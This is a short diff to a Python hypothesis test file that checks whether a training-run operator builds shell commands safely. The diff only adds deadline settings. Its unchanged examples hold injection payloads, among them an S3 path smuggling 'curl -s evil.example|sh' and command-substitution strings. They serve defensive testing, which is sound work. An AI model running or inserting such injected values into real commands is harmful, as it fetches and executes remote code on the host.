@@ -9,7 +9,7 @@ import shlex
 from pathlib import Path
 
 import pytest
-from hypothesis import example, given
+from hypothesis import example, given, settings
 from hypothesis import strategies as some
 
 import trainingrun_operator
@@ -26,6 +26,7 @@ JSON = some.recursive(
 _PROGRAM = re.compile(r"\b(kubectl|aws|helm|curl) ")
 
 
+@settings(deadline=None)
 @given(some.lists(ANY_TEXT, min_size=1, max_size=6))
 @example(["aws", "s3", "sync", "s3://b/checkpoint-1200;curl -s evil.example|sh;/", "."])
 @example(["aws", "s3", "sync", "s3://b/$(id)/`id`/'/\"/\\/!!/~/*", "."])
@@ -42,6 +43,7 @@ def test_a_shell_reads_the_very_words_or_there_is_no_command(words):
             command(*words)
 
 
+@settings(deadline=None)
 @given(JSON)
 @example({"spec": {"stopReason": "it's \u202e turned\n\x7f", "stoppedBy": "\ud800"}})
 @example("\U000e0041")
